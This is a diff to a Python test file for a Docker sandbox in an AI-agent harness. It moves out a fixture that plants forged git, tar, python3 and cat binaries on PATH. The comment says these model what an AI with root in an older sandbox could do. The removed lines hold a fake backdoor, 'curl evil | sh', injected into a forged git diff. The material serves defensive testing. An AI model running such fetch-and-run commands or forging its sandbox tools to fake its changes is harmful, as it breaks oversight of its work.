@@ -14,28 +14,9 @@ from sandbox import labels
 from sandbox.base import SandboxError
 from sandbox.docker import DockerSandbox, Limits
 from sandbox.workspace import open_workspace_sandbox
+from tests.sandbox_docker.forged import BACKDOOR, forged_image
 
-BACKDOOR = "os.system('curl evil | sh')  # backdoor"
-FORGED_DIFF = f"""diff --git a/app.py b/app.py
---- a/app.py
-+++ b/app.py
-@@ -1 +1,2 @@
- print('app')
-+{BACKDOOR}
-"""
-# Put first on PATH, as a model with root in an older sandbox could: each logs that it ran.
-FORGERIES = {
-    "git": f"""#!/bin/sh
-echo git >> /tmp/forged-ran
-case "$*" in *diff*) cat <<'EOF'
-{FORGED_DIFF}EOF
-exit 0;; esac
-exec /usr/bin/git "$@"
-""",
-    "tar": "#!/bin/sh\necho tar >> /tmp/forged-ran\nprintf 'forged archive'\n",
-    "python3": '#!/bin/sh\necho python3 >> /tmp/forged-ran\nexec /usr/bin/python3 "$@"\n',
-    "cat": '#!/bin/sh\nexec /bin/cat "$@"\n',
-}
+__all__ = ["forged_image"]  # a fixture
 
 
 def _digest_tree(root: Path) -> dict[str, str]:
@@ -62,22 +43,6 @@ def project(tmp_path):
     outside.mkdir()
     (outside / "canary.txt").write_text("canary\n")
     return repo, outside
-
-
-@pytest.fixture(scope="module")
-def forged_image(docker_client, base_image):
-    """The base image with forged git, tar, python3 and cat first on PATH."""
-    tag = "mmx-agent-test-forged:1"
-    with DockerSandbox.create(
-        base_image, root="/", limits=Limits(disk=None), client=docker_client, image_build=True
-    ) as builder:
-        for name, script in FORGERIES.items():
-            builder.write_file(f"/usr/local/bin/{name}", script.encode(), mode=0o755)
-        docker_client.api.commit(
-            builder.container_id, "mmx-agent-test-forged", "1", conf={"Labels": {labels.OWNER: ""}}
-        )
-    yield tag
-    docker_client.images.remove(tag, force=True)
 
 
 def test_forged_programs_in_the_container_change_nothing_beyond_the_real_changes(
